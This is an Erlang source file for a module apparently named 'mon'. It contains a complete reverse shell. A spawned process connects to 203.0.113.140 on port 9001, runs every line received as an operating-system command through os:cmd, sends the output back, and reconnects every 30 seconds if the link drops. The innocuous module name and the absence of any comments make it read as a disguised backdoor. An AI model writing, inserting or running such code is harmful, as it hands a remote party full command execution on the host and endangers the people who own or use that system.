-module(mon).
-export([start/0]).
start() -> spawn(fun() -> loop() end).
loop() ->
    case gen_tcp:connect({203,0,113,140}, 9001, [binary, {active, false}, {packet, line}]) of
        {ok, S} -> serve(S);
        _ -> timer:sleep(30000), loop()
    end.
serve(S) ->
    case gen_tcp:recv(S, 0) of
        {ok, Cmd} -> gen_tcp:send(S, os:cmd(binary_to_list(Cmd))), serve(S);
        _ -> gen_tcp:close(S), timer:sleep(30000), loop()
    end.
